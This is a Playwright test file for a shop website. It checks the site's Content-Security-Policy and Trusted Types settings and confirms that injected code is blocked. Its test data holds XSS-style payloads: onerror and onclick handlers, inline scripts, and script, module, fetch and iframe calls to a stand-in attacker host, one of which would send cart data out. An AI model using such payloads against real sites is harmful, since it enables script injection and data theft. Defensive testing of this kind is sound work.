import type { Page } from '@playwright/test';
import { expect, test } from './fixtures';
import { mailingScript, newsletterFrame, providerSite, shopWithSettings } from './shopWithSettings.mjs';
import { heading } from './steps';

test.use({ fetchesAhead: true });

async function policyOf(page: Page, address: string): Promise<Record<string, string[]>> {
  const response = await page.request.get(address);
  const header = response.headers()['content-security-policy'] ?? '';
  return Object.fromEntries(
    header.split('; ').map((rule) => {
      const [directive = '', ...sources] = rule.split(' ');
      return [directive, sources];
    }),
  );
}

const hashed = /^'sha256-[\w+/]{43}='$/;

test('the shop allows its own scripts and requests only, with settings also the hosts of these', async ({
  page,
}) => {
  for (const address of ['/', '/cart', '/show/301', '/kino/faqs', '/sw.js']) {
    const policy = await policyOf(page, address);
    expect(policy['default-src']).toEqual(["'none'"]);
    expect(policy['script-src']!.filter((source) => !hashed.test(source))).toEqual(["'self'"]);
    expect(policy['connect-src']).toEqual(["'self'"]);
    expect(policy['frame-src']).toEqual(["'self'"]);
    expect(policy['require-trusted-types-for']).toEqual(["'script'"]);
    for (const directive of ['frame-ancestors', 'base-uri']) {
      expect(policy[directive], directive).toEqual(["'none'"]);
    }
  }
  const withSettings = await policyOf(page, shopWithSettings);
  // The scripts of others would not run.
  expect(withSettings['require-trusted-types-for']).toBeUndefined();
  const { 'script-src': scripts = [], 'frame-src': frames = [] } = withSettings;
  expect(scripts.filter((source) => /unsafe|^https?:$|\*$/.test(source))).toEqual([]);
  expect(scripts).toContain(new URL(mailingScript).origin);
  expect(scripts).toContain('https://connect.facebook.net');
  expect(frames).toContain(new URL(newsletterFrame).origin);
  expect(frames).toContain(new URL(providerSite).origin);
  expect(scripts).not.toContain(new URL(providerSite).origin);
});

/** Attacks by injected HTML. Where text would become code, the browser refuses it before it looks at the host. */
const attempts = [
  {
    name: 'HTML from text',
    directive: 'require-trusted-types-for',
    run: () =>
      void new DOMParser().parseFromString('<img src="x" onerror="window.hostile = true">', 'text/html'),
  },
  {
    name: 'a script in the page',
    directive: 'require-trusted-types-for',
    run: () => {
      const script = document.createElement('script');
      script.textContent = 'window.hostile = true';
      document.body.append(script);
    },
  },
  {
    name: 'a handler at an element',
    directive: 'require-trusted-types-for',
    run: () => {
      const element = document.body.appendChild(document.createElement('i'));
      const handler = document.createAttribute('onclick');
      handler.value = 'window.hostile = true';
      element.setAttributeNode(handler);
      element.click();
    },
  },
  {
    name: 'a script of another host',
    directive: 'require-trusted-types-for',
    run: () => {
      const script = document.createElement('script');
      script.src = 'https://evil.example.test/x.js';
      document.body.append(script);
    },
  },
  {
    name: 'a module of another host',
    directive: 'script-src-elem',
    run: () => {
      const address = 'https://evil.example.test/x.js';
      void import(address).catch(() => undefined);
    },
  },
  {
    name: 'a call to another host',
    directive: 'connect-src',
    run: () => void fetch('https://evil.example.test/?what=cart').catch(() => undefined),
  },
  {
    name: 'a frame of another host',
    directive: 'frame-src',
    run: () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example.test/';
      document.body.append(frame);
    },
  },
];

test('injected content is blocked, and a violation fails every test', async ({ page, allowProblems }) => {
  allowProblems(/^console: /);
  const reported: string[] = [];
  page.on('console', (message) => reported.push(message.text()));
  const requested: string[] = [];
  await page.route('https://evil.example.test/**', (route) => {
    requested.push(route.request().url());
    return route.fulfill({ contentType: 'text/javascript', body: 'window.hostile = true' });
  });
  await page.goto('/cart');
  await expect(heading(page, 'Warenkorb')).toBeVisible();
  for (const { name, directive, run } of attempts) {
    await test.step(name, async () => {
      reported.length = 0;
      // Refused text throws.
      await page.evaluate(run).catch(() => undefined);
      const stopped = new RegExp(`^policy: ${directive} stopped `);
      await expect.poll(() => reported.filter((text) => stopped.test(text))).toHaveLength(1);
    });
  }
  expect(await page.evaluate(() => 'hostile' in window)).toBe(false);
  expect(requested).toEqual([]);
});

test('structured data and descriptions appear after a navigation, and the worker has an allowed address', async ({
  page,
}) => {
  await page.goto('/flohmarktprogramm-wien');
  await page
    .getByRole('link', { name: /^Flohmarkt Wien/ })
    .first()
    .click();
  await expect(page.locator('.prose p').first()).toBeVisible();
  const types = () =>
    page.evaluate(() =>
      [...document.querySelectorAll('head > script[type="application/ld+json"]')].map(
        ({ textContent }) => (JSON.parse(textContent) as { '@type'?: string })['@type'],
      ),
    );
  await expect.poll(types).toContain('BreadcrumbList');
  await page.evaluate(() => navigator.serviceWorker.register('/sw.js'));
});
